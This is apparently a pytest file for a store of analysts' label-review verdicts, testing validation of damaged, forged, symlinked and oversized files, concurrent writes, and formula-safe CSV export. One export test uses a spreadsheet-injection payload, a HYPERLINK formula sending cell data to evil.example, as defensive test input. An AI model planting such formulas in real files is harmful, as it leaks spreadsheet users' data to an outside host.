"""Analysts' verdicts on disk: the latest wins, nothing is lost, and the folder is input.

Each verdict is a file the store numbers under the folder's lock; every read checks each file
against the schema and the approvers the reader names, and skips (with a warning naming it)
damaged JSON, unknown or ill-typed fields, verdicts by anyone else, links and oversized files.
Two processes giving verdicts at once lose none, and the export a spreadsheet opens runs no
formula.
"""

import csv
import io
import json
import logging as py_logging
import os
import subprocess
import sys
import time

import pytest

import repo_paths

from components.review_gate import verdicts

APPROVERS = ('alice', 'bob')
FINGERPRINT = '0123456789abcdef0123'
SUMMARY_SHA = 'e' * 64


def _verdict(example_id='digit-0412', verdict=verdicts.WRONG_LABEL, by='alice', **changes):
  values = dict(
      verdict_id=0, verdict=verdict,
      corrected_label=3 if verdict == verdicts.WRONG_LABEL else None, note='', by=by,
      at='2025-01-01T00:00:00Z', example_id=example_id, split='train', fingerprint=FINGERPRINT,
      label=8, report_uri='/pipelines/digits/VarianceOfGradients/difficulty_report/5',
      report_id=12, summary_sha256=SUMMARY_SHA)
  values.update(changes)
  return verdicts.Verdict(**values)


def _write(folder, name, data):
  os.makedirs(folder, exist_ok=True)
  path = os.path.join(folder, name)
  with open(path, 'wb') as f:
    f.write(data if isinstance(data, bytes) else json.dumps(data).encode())
  return path


def test_a_verdict_comes_back_as_it_was_given(tmp_path):
  store = verdicts.VerdictStore(str(tmp_path / 'verdicts'))
  given = store.add(_verdict(note='looks like a 3; the stroke is closed'))
  assert given.verdict_id == 1
  assert sorted(os.listdir(store.folder)) == ['.lock', '000000000001.json']
  [back] = store.history(APPROVERS)
  assert back == given
  assert back.note == 'looks like a 3; the stroke is closed'
  assert back.audit == verdicts.Audit(
      '/pipelines/digits/VarianceOfGradients/difficulty_report/5', 12, SUMMARY_SHA)
  assert store.skipped == []


def test_the_latest_verdict_wins_whoever_gives_it(tmp_path):
  folder = str(tmp_path / 'verdicts')
  store = verdicts.VerdictStore(folder)
  store.add(_verdict(verdict=verdicts.CORRECT, by='alice'))
  store.add(_verdict('digit-<0099>', verdict=verdicts.EXCLUDE, by='alice'))
  last = store.add(_verdict(verdict=verdicts.WRONG_LABEL, by='bob', corrected_label=1))

  latest = verdicts.latest_verdicts(folder, APPROVERS)
  assert set(latest) == {('train', 'digit-0412'), ('train', 'digit-<0099>')}
  assert latest[('train', 'digit-0412')] == last
  assert latest[('train', 'digit-0412')].describe() == 'wrong label (8 -> 1)'
  # The whole history stays, in the order given.
  assert [(v.verdict_id, v.by, v.verdict) for v in store.history(APPROVERS)] == [
      (1, 'alice', 'correct'), (2, 'alice', 'exclude'), (3, 'bob', 'wrong label')]
  # By content: both examples here share one fingerprint, so the last verdict on it wins.
  by_content = verdicts.latest_verdicts(folder, APPROVERS, by_fingerprint=True)
  assert list(by_content) == [FINGERPRINT] and by_content[FINGERPRINT].verdict_id == 3


def test_order_is_the_order_recorded_not_the_clock(tmp_path):
  folder = str(tmp_path / 'verdicts')
  store = verdicts.VerdictStore(folder)
  first = store.add(_verdict(verdict=verdicts.AMBIGUOUS))
  second = store.add(_verdict(verdict=verdicts.CORRECT, by='bob'))
  # A writer whose clock runs behind: its later verdict still supersedes.
  data = second.to_json()
  data['at'] = '1999-01-01T00:00:00Z'
  _write(folder, '000000000002.json', data)
  assert first.verdict_id < second.verdict_id
  assert verdicts.latest_verdicts(folder, APPROVERS)[('train', 'digit-0412')].verdict == 'correct'


def _good(number, **changes):
  data = _verdict(verdict_id=number).to_json()
  data.update(changes)
  return data


# File name -> (contents, what the warning says about it).
HOSTILE = {
    '000000000002.json': (b'{"format_version": 1, "verdict_id": ', 'is not valid JSON'),
    '000000000003.json': (b'[1, 2]', 'is not a JSON object but a list'),
    '000000000004.json': (b'\xff\xfe\x00garbage', 'is not UTF-8 text'),
    '000000000005.json': (_good(5, score=0.9), "has an unknown field 'score'"),
    '000000000006.json': ({k: v for k, v in _good(6).items() if k != 'by'}, 'has no by'),
    '000000000007.json': (_good(7, corrected_label='3'), 'has a str for corrected_label'),
    '000000000008.json': (_good(8, corrected_label=True), 'has a bool for corrected_label'),
    '000000000009.json': (_good(9, verdict='mislabeled'), "has verdict 'mislabeled', which is "
                          'not one of wrong label, correct, ambiguous, exclude'),
    '000000000010.json': (_good(10, verdict='correct'),
                          "has corrected_label 3 with verdict 'correct'"),
    '000000000011.json': (_good(11, corrected_label=8),
                          'has corrected_label 8, the label the example already has'),
    '000000000012.json': (_good(13), 'holds verdict 13, not the 12 its name says'),
    '000000000013.json': (_good(13, note='line one\nline two'),
                          'holds a line break or control character'),
    '000000000014.json': (_good(14, format_version=2),
                          'has format_version 2, which this version of vog-audit does not read'),
    '000000000015.json': (_good(15, fingerprint='not-a-hash'), 'is not an example fingerprint'),
    '000000000016.json': (_good(16, at='yesterday'), 'is not an ISO-8601 UTC time'),
    '000000000017.json': (_good(17, by='mallory'),
                          "it is by 'mallory', who is not one of the approvers (alice, bob)"),
    '000000000018.json': (b'{' + b' ' * verdicts.MAX_VERDICT_BYTES + b'}',
                          f'is larger than {verdicts.MAX_VERDICT_BYTES} bytes'),
    'notes.json': (b'{"theme": "dark"}', 'its name is not a verdict number'),
    '000000000001.json~': (b'{}', None),  # an editor's backup: not a verdict, not a warning
}


def test_hostile_files_are_skipped_with_a_warning_naming_each(tmp_path, caplog):
  caplog.set_level(py_logging.WARNING)
  folder = str(tmp_path / 'verdicts')
  store = verdicts.VerdictStore(folder)
  good = store.add(_verdict())
  for name, (data, _) in HOSTILE.items():
    _write(folder, name, data)
  outside = _write(str(tmp_path / 'elsewhere'), 'forged.json', _good(19))
  os.symlink(outside, os.path.join(folder, '000000000019.json'))
  os.makedirs(os.path.join(folder, '000000000020.json'))
  os.mkfifo(os.path.join(folder, '000000000021.json'))  # would block a reader that opened it

  assert store.history(APPROVERS) == [good]
  skipped = {os.path.basename(path): why for path, why in store.skipped}
  expected = sorted([n for n, (_, why) in HOSTILE.items() if why]
                    + ['000000000019.json', '000000000020.json', '000000000021.json'])
  assert sorted(skipped) == expected
  for name, (_, why) in HOSTILE.items():
    if why:
      assert why in skipped[name], (name, skipped[name])
  assert 'is a symbolic link' in skipped['000000000019.json']
  assert 'is not a regular file' in skipped['000000000020.json']
  assert 'is not a regular file' in skipped['000000000021.json']
  warned = [r.getMessage() for r in caplog.records if r.levelno == py_logging.WARNING]
  for name in expected:
    assert sum(name in line and 'skipped' in line for line in warned) == 1, name
  # The next verdict takes a number no file has, bad ones included, and overwrites nothing.
  assert store.add(_verdict(verdict=verdicts.CORRECT)).verdict_id == 22
  with open(os.path.join(folder, '000000000002.json'), 'rb') as f:
    assert f.read() == HOSTILE['000000000002.json'][0]


def test_a_verdict_by_a_non_approver_never_counts(tmp_path):
  folder = str(tmp_path / 'verdicts')
  store = verdicts.VerdictStore(folder)
  store.add(_verdict(verdict=verdicts.CORRECT, by='alice'))
  # Written by hand later, as anyone with write access to the folder could.
  _write(folder, '000000000002.json', _good(2, by='mallory', verdict='exclude',
                                             corrected_label=None))
  latest = verdicts.latest_verdicts(folder, APPROVERS)
  assert latest[('train', 'digit-0412')].verdict == 'correct'
  assert verdicts.export_rows(latest.values()) == []
  # Only the approvers the reader names count: for a reader who lists mallory, it does.
  assert verdicts.latest_verdicts(folder, ('mallory',))[('train', 'digit-0412')].by == 'mallory'


def test_no_approvers_no_verdicts(tmp_path):
  with pytest.raises(verdicts.VerdictError, match='no approvers given'):
    verdicts.latest_verdicts(str(tmp_path), ())
  with pytest.raises(verdicts.VerdictError, match="is not an approver's name"):
    verdicts.latest_verdicts(str(tmp_path), ('alice\nbob',))


def test_an_object_store_is_refused(tmp_path):
  with pytest.raises(verdicts.VerdictError, match='is not a local path'):
    verdicts.VerdictStore('gs://bucket/verdicts')


def test_a_bad_verdict_is_refused_before_it_is_written(tmp_path):
  store = verdicts.VerdictStore(str(tmp_path / 'verdicts'))
  with pytest.raises(verdicts.VerdictError, match='has no corrected_label|corrected_label None'):
    store.add(_verdict(corrected_label=None))
  with pytest.raises(verdicts.VerdictError, match='is longer than 500 characters'):
    store.add(_verdict(note='x' * 501))
  assert store.history(APPROVERS) == []


_WRITER = r'''
import sys, time
sys.path.insert(0, sys.argv[1])
from components.review_gate import verdicts
store = verdicts.VerdictStore(sys.argv[2])
start = float(sys.argv[3])
while time.time() < start:
  time.sleep(0.001)
for i in range(int(sys.argv[4])):
  store.add(verdicts.Verdict(
      verdict_id=0, verdict='exclude', corrected_label=None, note=f'{sys.argv[5]} {i}',
      by=sys.argv[5], at='2025-01-01T00:00:00Z', example_id=f'{sys.argv[5]}-{i}',
      split='train', fingerprint='0123456789abcdef0123', label=1, report_uri='/r',
      report_id=None, summary_sha256='e' * 64))
'''


def test_two_processes_marking_at_once_lose_nothing(tmp_path):
  folder = str(tmp_path / 'verdicts')
  each = 40
  start = time.time() + 1.5
  writers = [subprocess.Popen([sys.executable, '-c', _WRITER, repo_paths.REPO, folder,
                               str(start), str(each), name], stderr=subprocess.PIPE)
             for name in APPROVERS]
  for writer in writers:
    _, err = writer.communicate(timeout=120)
    assert writer.returncode == 0, err.decode()
  store = verdicts.VerdictStore(folder)
  history = store.history(APPROVERS)
  assert store.skipped == []
  assert [v.verdict_id for v in history] == list(range(1, 2 * each + 1))
  assert sorted(v.example_id for v in history) == sorted(
      f'{name}-{i}' for name in APPROVERS for i in range(each))
  assert not [n for n in os.listdir(folder) if n.startswith('.tmp-')]


def test_export_keeps_wrong_labels_and_exclusions_and_runs_no_formula(tmp_path):
  folder = str(tmp_path / 'verdicts')
  store = verdicts.VerdictStore(folder)
  store.add(_verdict('=HYPERLINK("http://evil.example/?"&A1,"click")', corrected_label=3,
                     note='+1 agree'))
  store.add(_verdict('@SUM(1+1)', verdict=verdicts.EXCLUDE, note='-2 blurry'))
  store.add(_verdict('\tTAB', verdict=verdicts.EXCLUDE, split='\rsplit'))
  store.add(_verdict('plain', verdict=verdicts.AMBIGUOUS))
  store.add(_verdict('was wrong', corrected_label=5))
  store.add(_verdict('was wrong', verdict=verdicts.CORRECT))  # supersedes: not exported
  rows = verdicts.export_rows(verdicts.latest_verdicts(folder, APPROVERS).values())

  out = io.StringIO(newline='')
  verdicts.write_csv(rows, out)
  table = list(csv.reader(io.StringIO(out.getvalue(), newline='')))
  assert table[0] == list(verdicts.EXPORT_COLUMNS)
  assert len(table) == 4
  for row in table[1:]:
    for cell in row:
      assert not cell.startswith(('=', '+', '-', '@', '\t', '\r')), row
  by_id = {row[0]: dict(zip(table[0], row)) for row in table[1:]}
  formula = by_id["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"]
  assert formula['verdict'] == 'wrong label' and formula['corrected_label'] == '3'
  assert formula['note'] == "'+1 agree"
  assert formula['fingerprint'] == FINGERPRINT and formula['by'] == 'alice'
  assert formula['audit'] == '/pipelines/digits/VarianceOfGradients/difficulty_report/5'
  assert by_id["'@SUM(1+1)"]['note'] == "'-2 blurry"
  assert by_id["'@SUM(1+1)"]['corrected_label'] == ''
  assert by_id["'\tTAB"]['split'] == "'\rsplit"

  out = io.StringIO()
  verdicts.write_jsonl(rows, out)
  lines = [json.loads(line) for line in out.getvalue().splitlines()]
  assert len(lines) == 3
  assert {line['example_id'] for line in lines} == {
      '=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', '\tTAB'}
  assert all(set(line) == set(verdicts.EXPORT_COLUMNS) for line in lines)
  assert [line['corrected_label'] for line in lines if line['verdict'] == 'exclude'] == [
      None, None]


@pytest.mark.parametrize('text,name', [
    ('wrong label', 'wrong label'), ('wrong-label', 'wrong label'), ('Wrong_Label', 'wrong label'),
    ('correct', 'correct'), ('AMBIGUOUS', 'ambiguous'), ('exclude', 'exclude')])
def test_verdict_names(text, name):
  assert verdicts.parse_verdict(text) == name


def test_an_unknown_verdict_name_says_which_there_are():
  with pytest.raises(verdicts.VerdictError, match="'mislabeled' is not a verdict; give one of: "
                     "'wrong label', 'correct', 'ambiguous', 'exclude'"):
    verdicts.parse_verdict('mislabeled')
